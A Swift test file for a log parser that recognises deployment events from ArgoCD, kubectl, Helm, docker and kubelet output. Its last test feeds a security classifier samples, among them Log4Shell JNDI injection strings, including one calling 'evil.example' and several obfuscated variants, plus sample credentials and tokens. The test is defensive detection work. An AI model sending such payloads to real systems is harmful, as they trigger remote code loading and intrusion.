import Filters
import Testing

@Suite struct DeploySignalTests {
    func parse(_ s: String) -> DeploySignal? { DeploySignal.parse(Substring(s)) }

    @Test func argoCDControllerLines() {
        let done = parse(#"time="2026-11-20T10:00:03Z" level=info msg="Sync operation to 4f1c2e9a77b1 succeeded" application=argocd/payments dest-namespace=shop"#)
        #expect(done == DeploySignal(kind: .argoSync, deployment: "payments", version: "4f1c2e9", revision: "4f1c2e9a77b1", status: .succeeded))
        let failed = parse(#"{"level":"info","msg":"Sync operation to v2.1.0 failed: one or more objects failed to apply","application":"checkout"}"#)
        #expect(failed?.status == .failed)
        #expect(failed?.deployment == "checkout")
        #expect(failed?.version == "v2.1.0")
        let started = parse(#"level=info msg="Initiated automated sync to '9c0ffee1234'" application=argocd/inference-api"#)
        #expect(started == DeploySignal(kind: .argoSync, deployment: "inference-api", version: "9c0ffee", revision: "9c0ffee1234", status: .started))
        let cli = parse("+ argocd app sync payments --revision 1a2b3c4d5e6f --timeout 300")
        #expect(cli?.deployment == "payments")
        #expect(cli?.version == "1a2b3c4")
        let updater = parse(#"time="2026-11-20T10:00:00Z" level=info msg="Successfully updated image 'registry.example.com/shop/payments:1.8.1' to 'registry.example.com/shop/payments:1.8.2', but pending spec update" application=payments"#)
        #expect(updater == DeploySignal(kind: .imageUpdate, deployment: "payments", version: "1.8.2", image: "registry.example.com/shop/payments:1.8.2", status: .succeeded))
    }

    @Test func linesThatTieACommitToAVersion() {
        let update = parse(#"level=info msg="Updating images for cart: registry.example.com/shop/cart:3.1.0" application=argocd/cart"#)
        #expect(update == DeploySignal(kind: .imageUpdate, deployment: "cart", version: "3.1.0", image: "registry.example.com/shop/cart:3.1.0"))
        let setting = parse(#"time="2026-11-21T10:00:00Z" level=info msg="Setting new image to registry.example.com/shop/cart:3.1.0" alias=cart application=cart"#)
        #expect(setting?.kind == .imageUpdate && setting?.deployment == "cart" && setting?.version == "3.1.0")
        #expect(DeploySignal.banner("starting cart version 3.1.0 (commit a1b2c3d4e5)")?.revision == "a1b2c3d")
        #expect(DeploySignal.banner(#"{"msg":"server started","version":"3.1.0","git_sha":"a1b2c3d4e5f6"}"#)?.revision == "a1b2c3d")
        #expect(DeploySignal.banner("starting cart version 3.1.0")?.revision == "")
        #expect(SignalScanner.revision("Checking out Revision a1b2c3d4e5f60718293a4b5c6d7e8f9012345678 (refs/remotes/origin/main)") == "a1b2c3d")
        #expect(SignalScanner.revision("HEAD is now at 4f9c2b1 Fix totals") == "4f9c2b1")
        #expect(SignalScanner.revision("HEAD is now at main") == nil)
    }

    @Test func kubectlAndHelm() {
        let set = parse("+ kubectl -n shop set image deployment/checkout checkout=registry.example.com/shop/checkout:2.4.0 --record")
        #expect(set == DeploySignal(kind: .kubectl, deployment: "checkout", version: "2.4.0", image: "registry.example.com/shop/checkout:2.4.0"))
        #expect(parse(#"deployment "checkout" successfully rolled out"#) == DeploySignal(kind: .kubectl, deployment: "checkout", status: .succeeded))
        #expect(parse(#"error: deployment "checkout" exceeded its progress deadline"#)?.status == .failed)
        #expect(parse("deployment.apps/checkout image updated")?.deployment == "checkout")
        #expect(parse("kubectl rollout restart deployment/payments")?.deployment == "payments")
        let helm = parse("##[group]Run helm upgrade --install inference-api ./chart --set image.tag=v3.2.0 --wait")
        #expect(helm == DeploySignal(kind: .helm, deployment: "inference-api", version: "v3.2.0"))
        #expect(parse(#"Release "inference-api" has been upgraded. Happy Helming!"#) == DeploySignal(kind: .helm, deployment: "inference-api", status: .succeeded))
        #expect(parse("Error: UPGRADE FAILED: timed out waiting for the condition")?.status == .failed)
    }

    @Test func ciImagePushesAndKubeletPulls() {
        #expect(parse("Successfully tagged registry.example.com/shop/payments:1.8.2")
            == DeploySignal(kind: .imagePush, deployment: "payments", version: "1.8.2", image: "registry.example.com/shop/payments:1.8.2"))
        let push = parse("#14 pushing manifest for ghcr.io/example/inference-api:v3.2.0@sha256:0123456789abcdef 0.4s done")
        #expect(push == DeploySignal(kind: .imagePush, deployment: "inference-api", version: "v3.2.0", image: "ghcr.io/example/inference-api:v3.2.0", status: .succeeded))
        #expect(parse("+ docker push registry.example.com:5000/shop/checkout:2.4.0")?.status == .succeeded)
        // A push without a tag is no rollout.
        #expect(parse("docker push registry.example.com/shop/checkout") == nil)
        let pull = parse(#"I1120 10:00:01.5 1234 kuberuntime_image.go:60] "Successfully pulled image" image="registry.example.com/shop/payments:1.8.2" pod="shop/payments-7d4b9c8f5d-x2x4p""#)
        #expect(pull == DeploySignal(kind: .imagePull, deployment: "payments", version: "1.8.2", image: "registry.example.com/shop/payments:1.8.2",
                                     status: .succeeded, pod: "payments-7d4b9c8f5d-x2x4p"))
    }

    @Test func nearMissesAreNoSignals() {
        #expect(parse("user asked about the release notes") == nil)
        #expect(parse(#"GET /api/images?set image size=2 200"#) == nil)
        #expect(parse("Pulling image for pod but no pod named") == nil)
        #expect(DeploySignal.banner("the version field is required") == nil)
        #expect(DeploySignal.banner("supported versions: 1.2, 1.3 (starting)") == nil)
    }

    @Test func startupBanners() {
        #expect(DeploySignal.banner("Starting payments-api version 1.8.2 (commit 4f1c2e9)")?.version == "1.8.2")
        #expect(DeploySignal.banner(#"{"msg":"server listening","addr":":8080","version":"v3.2.0"}"#)?.version == "v3.2.0")
        #expect(DeploySignal.banner("INFO boot complete version=2.4.0-rc.1 in 812ms")?.version == "2.4.0-rc.1")
    }

    @Test func podReferences() {
        #expect(PodReference.find(#"prober.go:107] "Probe failed" probeType="Readiness" pod="shop/checkout-5c9d7f6b8-qwz5t" output="503""#)
            == PodReference(namespace: "shop", name: "checkout-5c9d7f6b8-qwz5t"))
        #expect(PodReference.find("Warning BackOff pod/payments-7d4b9c8f5d-x2x4p Back-off restarting failed container")?.name == "payments-7d4b9c8f5d-x2x4p")
        #expect(PodReference.find(#"{"pod":"inference-api-8d5f6c7b9-m2n4p","reason":"OOMKilled"}"#)?.name == "inference-api-8d5f6c7b9-m2n4p")
        #expect(PodReference.find("mypod=abc-def") == nil)
        #expect(PodReference.find("no pods here") == nil)
    }

    @Test func ciJobContext() {
        #expect(SignalScanner.job("Obtained Jenkinsfile from git https://github.com/example/payments.git")! == ("payments", ""))
        #expect(SignalScanner.job("Syncing repository: example/inference-api")! == ("inference-api", ""))
        #expect(SignalScanner.job("+ docker build -t registry.example.com/shop/payments:1.8.2 .")! == ("payments", "1.8.2"))
        #expect(SignalScanner.job("+ docker buildx build --push --tag ghcr.io/x/checkout:2.4.0 .")! == ("checkout", "2.4.0"))
    }

    func classify(_ s: String) -> SecurityClass? {
        var t = s
        let hits = t.withUTF8 { SignalScanner().scan($0) }
        return SecuritySignal.classify(Substring(s), hits: hits)
    }

    @Test func securityFindings() {
        #expect(classify("GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1") == .injection)
        #expect(classify("User-Agent: ${${lower:j}ndi:${lower:l}dap://x/y}") == .injection)
        #expect(classify("q=${${::-j}${::-n}${::-d}${::-i}:rmi://x}") == .injection)
        #expect(classify("render ${user.name} in template") == nil)
        #expect(classify("aws key AKIAIOSFODNN7EXAMPLE used") == .secret)
        #expect(classify("-----BEGIN RSA PRIVATE KEY-----") == .secret)
        #expect(classify("Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U") == .secret)
        #expect(classify("login user=bob password=hunter2") == .secret)
        #expect(classify("login user=bob password=[REDACTED]") == nil)
        #expect(classify("password reset email sent") == nil)
        #expect(classify("sshd: Failed password for root from 10.0.0.1") == .authFailure)
    }
}
